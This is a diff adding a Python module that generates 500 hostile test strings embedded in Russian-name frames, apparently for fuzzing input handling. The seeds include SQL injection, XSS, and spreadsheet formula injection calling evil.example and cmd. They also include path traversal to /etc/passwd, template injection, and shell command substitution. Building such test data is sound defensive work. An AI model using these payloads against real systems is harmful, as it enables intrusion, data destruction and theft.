@@ -1,0 +1,68 @@
+"""500 strings that attack whoever takes them for more than text: SQL, HTML, spreadsheets, paths, templates, formats."""
+
+from itertools import cycle, islice, product
+
+_SQL = (
+    "' OR 1=1 --",
+    "'; DROP TABLE person; --",
+    '" OR ""="',
+    "1; SELECT pg_sleep(9)",
+    "' UNION SELECT password_hash FROM account --",
+    "%' AND 1=0 --",
+    "\\'; --",
+    "x' ESCAPE '",
+    "_%_%",
+    "$$; SELECT 1; $$",
+)
+_HTML = (
+    "<img src=x onerror=alert(1)>",
+    "<script>alert(1)</script>",
+    "<svg/onload=alert(1)>",
+    "javascript:alert(1)",
+    '"><iframe src=//evil.example>',
+    "&lt;b&gt;",
+    "<style>*{display:none}</style>",
+    "{{constructor.constructor('alert(1)')()}}",
+    "</title><script>1</script>",
+    "<a href='javascript:1'>x</a>",
+)
+_FORMULAS = (
+    "=cmd|'/c calc'!A1",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    '=HYPERLINK("http://evil.example","x")',
+    "\t=1+1",
+    '=IMPORTXML("http://evil.example","//a")',
+    "=1+1",
+    "%0A=1",
+    "=DDE(1)",
+)
+_PATHS = ("../../etc/passwd", "..\\..\\windows", "/dev/null", "file:///etc/passwd", "C:\\x")
+_TEMPLATES = (
+    "{{7*7}}",
+    "${7*7}",
+    "#{7*7}",
+    "{0.__class__}",
+    "%s%s%n",
+    "{% include 'x' %}",
+    "$(id)",
+    "`id`",
+    "#set($x=1)",
+    '#import "x": *',
+)
+_LETTERS = ("Ё́", "‮дом", "😀", "ﬁ", "İı", "ß", "\u200b", "à́̂", "𝕏", "Ǆ")
+_FRAMES = ("{}", "Иванова {}", "{} Анна", "«{}»", "  {}  ", "МБОУ {} № 1", "{}{}", "А{}", "{}\u00a0я", "x{}y", "({})")
+
+
+def hostile_strings() -> list[str]:
+    """Exactly 500, all different, the same each time."""
+    seeds = (*_SQL, *_HTML, *_FORMULAS, *_PATHS, *_TEMPLATES, *_LETTERS)
+    made = dict.fromkeys(frame.replace("{}", seed) for frame, seed in product(_FRAMES, seeds))
+    return list(islice(made, 500))
+
+
+def names() -> list[str]:
+    """The same as names of people: no two alike once spaces and quotes are folded."""
+    surnames = cycle(("Иванова", "Петрова", "Сидорова"))
+    return [f"{said.strip()} {next(surnames)} {number}" for number, said in enumerate(hostile_strings())]
